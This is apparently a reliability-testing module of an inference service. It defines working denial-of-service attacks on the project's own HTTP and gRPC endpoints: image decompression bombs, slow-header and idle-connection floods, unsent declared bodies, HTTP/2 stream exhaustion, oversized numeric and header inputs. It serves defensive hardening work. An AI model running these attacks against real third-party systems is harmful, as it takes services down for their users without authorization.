"""The attacks of scripts/hostile.py: each is `attack(target, count) -> (statuses, note)`, cheap to
send and, before its fix, expensive to serve (docs/reliability.md, "Cost"). Statuses are HTTP codes,
0 for "no answer while we waited", or gRPC status names."""

from __future__ import annotations

import base64
import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

import grpc
import httpx
from tritonclient.grpc import service_pb2 as pb
from tritonclient.grpc import service_pb2_grpc

from scripts.hostile_wire import H2, INFER, STREAM, closed, grpc_message, host_port, http_exchange, infer_request
from tests.reliability import costly

MB = 2**20
JPEG, PNG, JSON = ({"content-type": t} for t in ("image/jpeg", "image/png", "application/json"))


@dataclass(frozen=True)
class Target:
    url: str
    grpc: str  # host:port of the gRPC API
    model: str  # the v2 ensemble model (the repository's name)


Result = tuple[list[object], str]
Attack = Callable[[Target, int], Result]


def ordinary_image() -> bytes:
    return costly._encode(costly.smooth(500, 375), "JPEG")


def _post(client: httpx.Client, path: str, **kwargs: object) -> int | str:
    """The status, or "reset" when the server dropped the connection without an answer."""
    try:
        return client.post(path, **kwargs).status_code
    except httpx.TransportError:
        return "reset"


def _concurrent(fn: Callable[[int], object], n: int) -> list[object]:
    with ThreadPoolExecutor(n) as pool:
        return list(pool.map(fn, range(n)))


def images_at_once(build: Callable[[], bytes], headers: dict[str, str], at_once: int) -> Attack:
    def attack(t: Target, count: int) -> Result:
        data = build()
        with httpx.Client(base_url=t.url, timeout=120) as client:
            def post(_: int) -> int:
                return client.post("/v1/classify", content=data, headers=headers).status_code
            return [s for _ in range(count) for s in _concurrent(post, at_once)], f"{len(data) // 1024} KiB each"
    return attack


def declared_never_sent(t: Target, count: int) -> Result:
    """18 connections declare bodies of 256 MiB in all (the default in-flight budget) and send none
    of them; meanwhile v1 and v2 uploads."""
    head = b"POST /v1/classify HTTP/1.1\r\nHost: x\r\nContent-Type: image/jpeg\r\nContent-Length: %d\r\n\r\n"
    socks = [socket.create_connection(host_port(t.url)) for _ in range(18)]
    for sock in socks:
        sock.sendall(head % (256 * MB // 18))
    time.sleep(0.5)
    body = json.dumps({"inputs": [{"name": "image", "datatype": "BYTES", "shape": [1],
                                   "data": [base64.b64encode(ordinary_image()).decode()]}]}).encode()
    uploads = []
    with httpx.Client(base_url=t.url, timeout=60) as client:
        for _ in range(count):
            uploads.append(client.post("/v1/classify", content=ordinary_image(), headers=JPEG).status_code)
            uploads.append(client.post(f"/v2/models/{t.model}/infer", content=body, headers=JSON).status_code)
    held = []
    for sock in socks:  # what each stalled connection got within 15 s: 408 once the server stops waiting
        sock.settimeout(15)
        try:
            answer = sock.recv(64)
        except OSError:
            answer = b""
        held.append(int(answer.split(b" ")[1]) if answer.startswith(b"HTTP/") else 0)
        sock.close()
    return uploads + held, f"uploads meanwhile: {sorted(uploads)}"


def grpc_streams(t: Target, count: int) -> Result:
    """400 streams opened on one connection (headers only), then an idle connection left open."""
    conn, opened = H2(t.grpc), 0
    conn.pump(0.3)
    try:
        for _ in range(400):
            conn.open(INFER)
            opened += 1
    except Exception:  # h2 enforces the server's SETTINGS_MAX_CONCURRENT_STREAMS  # noqa: BLE001
        pass
    conn.pump(1.0)
    accepted = opened - len(conn.resets())
    conn.close()
    idle, started = H2(t.grpc), time.monotonic()
    idle.pump(20.0, ack=True)
    idle_note = f"idle connection closed after {time.monotonic() - started:.0f} s" if idle.gone else \
        "idle connection open after 20 s"
    idle.close()
    return ["accepted"] * accepted + ["refused"] * (400 - accepted), f"{accepted} of 400 streams; {idle_note}"


def grpc_half_sent(t: Target, count: int) -> Result:
    """8 streams declare an 8 MiB message each and send all but 512 KiB of it, then pause."""
    conn = H2(t.grpc)
    conn.pump(0.3)
    message = grpc_message(infer_request(t.model, b"\0" * (8 * MB)))
    streams = [conn.open(INFER) for _ in range(8)]
    sent = sum(conn.send(s, message[: -512 * 1024], wait_s=5) for s in streams)
    started = time.monotonic()
    while time.monotonic() - started < 20 and len(conn.resets() | conn.ended()) < len(streams) and not conn.gone:
        conn.pump(0.5)
    cut = conn.resets() | conn.ended()
    note = f"{sent // MB} MiB sent; {len(cut)} of 8 streams cut " + (
        f"after {time.monotonic() - started:.0f} s" if cut else "(held 20 s)")
    conn.close()
    return ["cut" if s in cut else "held" for s in streams], note


def grpc_unread_answers(t: Target, count: int) -> Result:
    """64 stream requests with 4 MiB ids on one ModelStreamInfer; the answers are never read."""
    conn = H2(t.grpc)
    conn.pump(0.3)
    stream = conn.open(STREAM)
    image = ordinary_image()
    for i in range(64):
        conn.send(stream, grpc_message(infer_request(t.model, image, request_id=f"{i:03}" + "x" * (4 * MB))), wait_s=5)
    started = time.monotonic()
    while time.monotonic() - started < 10 and not conn.gone:
        conn.pump(0.5, ack=False)  # read frames, but never give the server window for more answers
    received = sum(e.flow_controlled_length for e in conn.events if hasattr(e, "flow_controlled_length"))
    conn.close()
    return ["sent"] * 64, f"{received // 1024} KiB of answers reached the client"


def big_beside_small(t: Target, count: int) -> Result:
    """A 10-crop request while 16 clients send 1-crop requests back to back."""
    image, stop = ordinary_image(), threading.Event()
    with httpx.Client(base_url=t.url, timeout=60) as client:
        started = time.perf_counter()
        alone = client.post("/v1/classify", params={"crops": 10}, content=image, headers=JPEG)
        alone_ms = 1000 * (time.perf_counter() - started)

    def small(_: int) -> None:
        with httpx.Client(base_url=t.url, timeout=60) as c:
            while not stop.is_set():
                c.post("/v1/classify", content=image, headers=JPEG)

    statuses, times = [alone.status_code], []
    with ThreadPoolExecutor(16) as pool:
        for i in range(16):
            pool.submit(small, i)
        time.sleep(1.0)
        with httpx.Client(base_url=t.url, timeout=60) as client:
            for _ in range(count):
                started = time.perf_counter()
                statuses.append(client.post("/v1/classify", params={"crops": 10}, content=image,
                                            headers=JPEG).status_code)
                times.append(1000 * (time.perf_counter() - started))
        stop.set()
    return statuses, f"10-crop alone {alone_ms:.0f} ms; beside 16 clients {max(times):.0f} ms worst"


def _v2(model: str, parameters: dict[str, object]) -> bytes:
    return json.dumps({"parameters": parameters, "inputs": [{"name": "image", "datatype": "BYTES", "shape": [1],
                      "data": [base64.b64encode(ordinary_image()).decode()]}]}).encode()


def refused_auto_values(t: Target, count: int) -> Result:
    """crops=auto with models=2..151 (all over the member count: 400) over v2 HTTP and gRPC."""
    statuses: list[object] = []
    with httpx.Client(base_url=t.url, timeout=30) as client, grpc.insecure_channel(t.grpc) as channel:
        stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
        for models in range(2, 152):
            body = _v2(t.model, {"crops": "auto", "models": models})
            statuses.append(client.post(f"/v2/models/{t.model}/infer", content=body, headers=JSON).status_code)
            request = infer_request(t.model, ordinary_image())
            request.parameters["crops"].string_param = "auto"
            request.parameters["models"].int64_param = models + 1000
            try:
                stub.ModelInfer(request, timeout=30)
                statuses.append("OK")
            except grpc.RpcError as exc:
                statuses.append(exc.code().name)
    return statuses, ""


def huge_numbers(t: Target, count: int) -> Result:
    digits = "9" * 4400
    statuses: list[object] = []
    with httpx.Client(base_url=t.url, timeout=30) as client:
        for _ in range(count):
            statuses.append(_post(client, f"/v1/classify?crops={digits}", content=ordinary_image(), headers=JPEG))
            statuses.append(_post(client, f"/v2/models/{t.model}/infer", content=b"{}",
                                  headers={**JSON, "Inference-Header-Content-Length": digits}))
            body = f'{{"inputs":[{{"name":"image","datatype":"BYTES","shape":[{digits}],"data":[]}}]}}'
            statuses.append(_post(client, f"/v2/models/{t.model}/infer", content=body, headers=JSON))
            statuses.append(_post(client, f"/v2/models/{t.model}/infer", content=_v2(t.model, {"timeout": 10**400}),
                                  headers=JSON))
    return statuses, ""


def long_url_and_id(t: Target, count: int) -> Result:
    statuses, out = [], 0
    head = b"GET /healthz?" + b"a" * (256 * 1024) + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    body = json.dumps({"id": "\u00e9" * (130 * 1024), "inputs": [{"name": "image", "datatype": "BYTES", "shape": [1],
                       "data": [base64.b64encode(ordinary_image()).decode()]}]}).encode()
    with httpx.Client(base_url=t.url, timeout=30) as client:
        for _ in range(count):
            statuses.append(http_exchange(t.url, head)[0])
            try:
                answer = client.post(f"/v2/models/{t.model}/infer", content=body, headers=JSON)
            except httpx.TransportError:
                statuses.append("reset")
                continue
            statuses.append(answer.status_code)
            out = max(out, len(answer.content))
    return statuses, f"id answer {out // 1024} KiB for a {len(body) // 1024} KiB request"


def slow_and_idle(t: Target, count: int) -> Result:
    """96 idle connections and 48 sending one header byte every 2 s, for 14 s."""
    idle = [socket.create_connection(host_port(t.url)) for _ in range(96)]
    slow = [socket.create_connection(host_port(t.url)) for _ in range(48)]
    line = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 64
    started = time.monotonic()
    for i in range(7):
        for sock in slow:
            try:
                sock.sendall(line[i : i + 1])
            except OSError:
                pass
        time.sleep(2)
    still = [not closed(s) for s in idle + slow]
    for s in idle + slow:
        s.close()
    return ["open" if o else "closed" for o in still], \
        f"{sum(still)} of 144 open after {time.monotonic() - started:.0f} s"


def endless_headers(t: Target, count: int) -> Result:
    """2 connections sending header lines without end, up to 12 MiB each."""
    def one(_: int) -> tuple[int, int]:
        line = b"X-Pad: " + b"a" * 1017 + b"\r\n"
        pieces: Iterator[bytes] = iter([line * 64] * (12 * 1024 // 64))
        sent = [0]

        def counted() -> Iterator[bytes]:
            for piece in pieces:
                sent[0] += len(piece)
                yield piece
        status, _ = http_exchange(t.url, b"GET /healthz HTTP/1.1\r\nHost: x\r\n", counted(), wait_s=5)
        return status, sent[0]
    answers = _concurrent(one, 2)
    return [s for s, _ in answers], f"{max(n for _, n in answers) // 1024} KiB of headers sent before the answer"


def grpc_statistics(t: Target, count: int) -> Result:
    statuses: list[object] = []
    with grpc.insecure_channel(t.grpc) as channel:
        stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)

        def call(_: int) -> str:
            try:
                stub.ModelStatistics(pb.ModelStatisticsRequest(), timeout=30)
                return "OK"
            except grpc.RpcError as exc:
                return exc.code().name
        for _ in range(count * 5):
            statuses += _concurrent(call, 20)
    return statuses, ""


def response_headers(t: Target, count: int) -> Result:
    missing = []
    with httpx.Client(base_url=t.url, timeout=30) as client:
        answers = {path: client.get(path) for path in ("/", "/healthz", "/docs", "/v1/models")}
        answers["error"] = client.post("/v1/classify", params={"crops": 7}, content=b"x", headers=JPEG)
    for name, answer in answers.items():
        if answer.headers.get("x-content-type-options") != "nosniff":
            missing.append(f"nosniff on {name}")
    if "frame-ancestors" not in answers["/"].headers.get("content-security-policy", ""):
        missing.append("frame-ancestors on /")
    if answers["/docs"].status_code == 200 and "https://" in answers["/docs"].text:
        missing.append("/docs loads third-party scripts")
    return [a.status_code for a in answers.values()], "missing: " + (", ".join(missing) or "nothing")


def attacks() -> dict[str, Attack]:
    return {
        "1. progressive JPEG, 1000 scans, 4 at once": images_at_once(costly.progressive_scans, JPEG, 4),
        "2. JPEG COM flood 4 MiB, 2 at once": images_at_once(costly.jpeg_marker_flood, JPEG, 2),
        "2. JPEG EXIF flood 4 MiB, 2 at once": images_at_once(costly.exif_flood, JPEG, 2),
        "2. PNG chunk flood 8 MiB, 2 at once": images_at_once(costly.png_chunk_flood, PNG, 2),
        "3. 16-bit PNG 4949x4949, 4 at once": images_at_once(costly.png_16bit, PNG, 4),
        "4. 18 bodies declared, never sent": declared_never_sent,
        "5. gRPC 400 streams on one connection": grpc_streams,
        "6. gRPC 8 half-sent 8 MiB messages": grpc_half_sent,
        "7. gRPC stream, 4 MiB ids, answers unread": grpc_unread_answers,
        "8. 10-crop beside 16 1-crop clients": big_beside_small,
        "9. auto with refused models values": refused_auto_values,
        "10. 4,400-digit numbers, timeout 1e400": huge_numbers,
        "11. 256 KiB URL, 260 KiB v2 id": long_url_and_id,
        "12. 96 idle + 48 slow-header clients": slow_and_idle,
        "13. 2 endless header streams": endless_headers,
        "14. 20 concurrent gRPC ModelStatistics": grpc_statistics,
        "15. security headers": response_headers,
    }
